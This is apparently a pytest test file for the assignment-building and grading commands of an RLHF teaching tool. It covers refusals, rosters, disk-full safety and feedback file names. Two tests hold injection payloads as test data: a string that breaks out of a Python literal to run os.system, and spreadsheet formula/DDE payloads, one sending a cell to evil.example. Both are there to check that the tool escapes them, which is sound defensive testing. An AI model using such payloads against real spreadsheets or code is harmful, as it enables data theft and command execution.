def test_the_colab_url_enters_the_student_notebook_as_a_string_literal(tmp_path, capsys, monkeypatch):
    shutil.copytree(default_source() / "02_ppo_math", tmp_path / "source" / "02_ppo_math")
    build = ["assignments", "build", "--source", str(tmp_path / "source"), "--no-check", "--colab-url"]
    assert main([*build, "https://example.org/rlhf/", "--out", str(tmp_path / "good")]) == 0
    assert _colab_cell_url(tmp_path / "good" / "ppo_math" / "student" / "ppo_math.ipynb") == \
        "https://example.org/rlhf/ppo_math-student.zip"
    # even a URL that slipped past the check stays a string: quotes in it cannot end the literal
    from rlhf_lab.teach import assignments

    monkeypatch.setattr(assignments, "check_colab_url", lambda url: None)
    evil = 'https://example.org/x"); __import__("os").system("id"); ("\'\\'
    assert main([*build, evil, "--out", str(tmp_path / "evil")]) == 0
    assert _colab_cell_url(tmp_path / "evil" / "ppo_math" / "student" / "ppo_math.ipynb") == \
        f"{evil}/ppo_math-student.zip"


def test_grade_lists_every_file_it_wrote(scores, graded_folder):
    printed = (graded_folder / "grade_output.txt").read_text().splitlines()
    listed = [Path(line.strip()).resolve() for line in printed[printed.index("files written:") + 1:]]
    folder = graded_folder.resolve()  # the fixture may find it through pytest's "current" link
    feedback = sorted((folder / "feedback").rglob("*.md"))
    assert listed[:2] == [folder / "scores.csv", folder / "scores_lms.csv"]
    assert sorted(listed[2:]) == feedback and len(feedback) == len(scores)  # one per submission


@pytest.fixture
def fake_grading(built, tmp_path, monkeypatch):
    """One ppo_math submission and a grader that records its calls instead of grading: (submissions, calls)."""
    from rlhf_lab.teach import gradebook

    calls = []
    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: calls.append(job) or {
        "questions": {}, "student_id": "s1", "error": "", "seconds": 0.1})
    shutil.copy(built / "ppo_math" / "student" / "ppo_math.ipynb", _mkdir(tmp_path / "subs"))
    return tmp_path / "subs", calls


def _grade_cli(built, subs, out, *more) -> int:
    with contextlib.redirect_stdout(io.StringIO()):
        return main(["assignments", "grade", str(subs), "--build", str(built), "--out", str(out), *more])


@pytest.mark.parametrize("existing", ["scores.csv", "scores_lms.csv", "feedback/ppo_math/s0.md"])
def test_grade_refuses_to_replace_a_gradebook_without_force_before_grading(built, fake_grading, tmp_path, capsys,
                                                                          existing):
    subs, calls = fake_grading
    out = tmp_path / "grades" / "scores.csv"
    _mkdir((out.parent / existing).parent)
    (out.parent / existing).write_text("s1,ppo_math,12 (entered by hand)\n")
    assert _grade_cli(built, subs, out) == 2
    shown = out.parent / existing.replace("s0.md", "*.md")
    assert capsys.readouterr().err == f"rlhf-lab assignments: error: {shown} already exists: pass --force to replace " \
        "it (grades entered there by hand would be lost), or give another --out\n"
    assert calls == [] and (out.parent / existing).read_text() == "s1,ppo_math,12 (entered by hand)\n"
    assert sorted(p.name for p in out.parent.rglob("*") if p.is_file()) == [Path(existing).name]
    assert _grade_cli(built, subs, out, "--force") == 0 and len(calls) == 1
    lms = pd.read_csv(out.parent / "scores_lms.csv")
    assert pd.read_csv(out)["student_id"].tolist() == lms["student_id"].tolist() == ["s1"]
    assert (out.parent / "feedback" / "ppo_math" / "s1.md").read_text().startswith("# ppo_math: s1")


def test_a_roster_keeps_ids_not_on_it_out_of_the_lms_file_and_lists_who_submitted_nothing(built, fake_grading,
                                                                                             tmp_path, monkeypatch):
    """--roster: a submission whose id is not on the roster (a typo, a missing id) gets on_roster False and no LMS row
    (it would be filed under no one); the roster's students without a submission are listed; a bad roster is refused
    in one line before grading."""
    from rlhf_lab.teach import gradebook

    subs, calls = fake_grading
    shutil.copy(built / "ppo_math" / "student" / "ppo_math.ipynb", _mkdir(subs / "typo"))
    shutil.copy(built / "ppo_math" / "student" / "ppo_math.ipynb", _mkdir(subs / "blank"))
    ids = {"ppo_math.ipynb": "S1 ", "typo/ppo_math.ipynb": "s1x", "blank/ppo_math.ipynb": None}
    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: calls.append(job) or {
        "questions": {}, "student_id": ids[Path(job["submission"]).relative_to(subs.resolve()).as_posix()],
        "error": "", "seconds": 0.1})
    (tmp_path / "roster.csv").write_text("student_id,display_name\ns1,Ada\ns2,Bo\ns3,Cy\n")
    out = tmp_path / "grades" / "scores.csv"
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        assert main(["assignments", "grade", str(subs), "--build", str(built), "--out", str(out),
                     "--roster", str(tmp_path / "roster.csv")]) == 0
    table = pd.read_csv(out, keep_default_na=False).set_index("submission")
    assert table["on_roster"].to_dict() == {"blank/ppo_math.ipynb": False, "ppo_math.ipynb": True,
                                            "typo/ppo_math.ipynb": False}
    lms = pd.read_csv(out.parent / "scores_lms.csv")
    assert lms["student_id"].tolist() == ["S1 "]
    ppo_math = [q["name"] for q in load_manifest(built)["ppo_math"]["questions"]]
    assert list(lms.columns) == ["student_id", "assignment", *ppo_math, "total"], "no other assignment's questions"
    assert [c for c in table.columns if c.startswith("q")] == ppo_math
    lines = printed.getvalue().splitlines()
    assert "warning: typo/ppo_math.ipynb: student id 's1x' is not on the roster: it is not in the LMS file; match " \
           "it to a student by hand (column on_roster of the score table)" in lines
    assert any(line.startswith("warning: blank/ppo_math.ipynb: student id '(none)' is not on") for line in lines)
    assert "warning: 2 student(s) on the roster have no graded ppo_math submission: s2, s3" in lines
    calls.clear()
    (tmp_path / "ids.csv").write_text("name\nAda\n")
    for roster, message in ((tmp_path / "nope.csv", "roster .*nope.csv not found: give a CSV with a student_id"),
                            (tmp_path / "ids.csv", r"the roster needs a student_id column; it has \['name'\]")):
        with pytest.raises(ValueError, match=message):
            grade(subs, built, tmp_path / "other.csv", roster=roster)
    assert calls == [] and not (tmp_path / "other.csv").exists()


def test_a_disk_that_fills_while_grade_writes_leaves_the_old_gradebook_whole(built, fake_grading, tmp_path, capsys,
                                                                               monkeypatch):
    from conftest import fill_disk_at_flush

    from rlhf_lab.teach import gradebook

    subs, calls = fake_grading
    out = tmp_path / "grades" / "scores.csv"
    assert _grade_cli(built, subs, out) == 0
    before = {p: p.read_bytes() for p in out.parent.rglob("*") if p.is_file()}
    assert len(before) == 3  # scores, the LMS file, one feedback file
    fill_disk_at_flush(monkeypatch, 3)  # the disk fills while the last file is flushed
    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: calls.append(job) or {  # new grades this time
        "questions": {}, "student_id": "s1", "error": "late", "seconds": 0.2})
    assert _grade_cli(built, subs, out, "--force") == 2 and len(calls) == 2
    assert "the disk is full" in capsys.readouterr().err
    assert {p: p.read_bytes() for p in out.parent.rglob("*") if p.is_file()} == before


def test_a_student_id_typed_as_a_formula_is_text_in_the_gradebook_csvs(built, fake_grading, tmp_path, monkeypatch):
    """The grader reads `student_id` from the notebook as the student typed it; a spreadsheet (or an LMS import) that
    opens scores.csv must show '=HYPERLINK(...)' as text, never run it as a formula. The returned table keeps it."""
    import csv

    from rlhf_lab.teach import gradebook

    subs, calls = fake_grading
    formula, dde = '=HYPERLINK("http://evil.example/?"&C2,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"
    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: calls.append(job) or {
        "questions": {}, "student_id": dde if job["submission"].endswith("+1.ipynb") else formula, "error": "",
        "seconds": 0.1})
    shutil.copy(subs / "ppo_math.ipynb", subs / "+1.ipynb")  # a file name that starts like a formula too
    out = tmp_path / "grades" / "scores.csv"
    table = grade(subs, built, out=out)
    assert sorted(table["student_id"]) == [formula, dde] and sorted(table["submission"]) == ["+1.ipynb",
                                                                                          "ppo_math.ipynb"]
    for path in (out, out.parent / "scores_lms.csv"):
        with open(path, newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert {"'" + formula, "'" + dde} <= set(cells) and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'+1.ipynb" in out.read_text()


def test_grade_refuses_an_out_it_cannot_write_before_grading(built, fake_grading, tmp_path, capsys):
    subs, calls = fake_grading
    (tmp_path / "afile").write_text("keep")
    _mkdir(tmp_path / "folder")
    (_mkdir(tmp_path / "blocked") / "feedback").write_text("keep")
    refusals = {
        tmp_path / "folder": f"--out {tmp_path / 'folder'} is a folder: give the CSV file to write the scores to, "
                             f"e.g. --out {tmp_path / 'folder' / 'scores.csv'}",
        tmp_path / "afile" / "s.csv": f"--out {tmp_path / 'afile' / 's.csv'}: cannot write in {tmp_path / 'afile'}/ "
                                      f"because {tmp_path / 'afile'} is a file, not a folder: give --out a path in a "
                                      "folder",
        tmp_path / "afile" / "deeper" / "s.csv": f"because {tmp_path / 'afile'} is a file, not a folder",
        tmp_path / "blocked" / "s.csv": f"cannot write in {tmp_path / 'blocked' / 'feedback' / 'ppo_math'}/ because "
                                        f"{tmp_path / 'blocked' / 'feedback'} is a file, not a folder: move "
                                        f"{tmp_path / 'blocked' / 'feedback'} away or give --out in another folder",
    }
    for out, message in refusals.items():
        assert _grade_cli(built, subs, out) == 2, out
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and message in err and "Traceback" not in err, err
    assert calls == [] and (tmp_path / "afile").read_text() == "keep"
    assert (tmp_path / "blocked" / "feedback").read_text() == "keep"
    assert list((tmp_path / "folder").iterdir()) == []


def test_grade_says_a_submissions_file_is_not_a_folder(built, tmp_path, capsys):
    (tmp_path / "sub.ipynb").write_text("{}")
    assert main(["assignments", "grade", str(tmp_path / "sub.ipynb"), "--build", str(built), "--out",
                 str(tmp_path / "s.csv")]) == 2
    assert capsys.readouterr().err == f"rlhf-lab assignments: error: submissions folder {tmp_path / 'sub.ipynb'} " \
        "is a file, not a folder: pass the folder where you collected the students' notebooks or export zips " \
        "(searched recursively)\n"


@pytest.mark.parametrize("out, message", [
    ("afile", "--out {afile} is a file, not a folder: give the folder to write the build into, e.g. --out "
              "dist/assignments"),
    ("afile/sub", "--out {afile}/sub: cannot make the folder because {afile} is a file, not a folder: give --out a "
                  "path in a folder"),
    ("afile/sub/deeper", "because {afile} is a file, not a folder"),
])
def test_build_refuses_an_out_under_a_file_in_one_line(tmp_path, capsys, out, message):
    (tmp_path / "afile").write_text("keep")
    assert main(["assignments", "build", "--out", str(tmp_path / out), "--no-check"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rlhf-lab assignments: error: ") and err.count("\n") == 1, err
    assert message.format(afile=tmp_path / "afile") in err and (tmp_path / "afile").read_text() == "keep"


def test_feedback_files_of_ids_that_differ_only_in_case_get_different_names(built, tmp_path, monkeypatch):
    """'s1' and 'S1' are one student to same_id_as; their feedback files must not be s1.md and S1.md, which are one
    file on a case-insensitive disk (macOS, Windows): the second would overwrite the first."""
    from rlhf_lab.teach import gradebook

    ids = iter(["s1", "S1"])
    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: {
        "questions": {}, "student_id": next(ids), "error": "", "seconds": 0.1})
    for who in ("a", "b"):
        shutil.copy(built / "ppo_math" / "student" / "ppo_math.ipynb", _mkdir(tmp_path / "subs" / who))
    out = tmp_path / "grades" / "scores.csv"
    assert _grade_cli(built, tmp_path / "subs", out) == 0
    names = [p.name for p in (out.parent / "feedback" / "ppo_math").iterdir()]
    assert len(names) == 2 and len({n.casefold() for n in names}) == 2, names
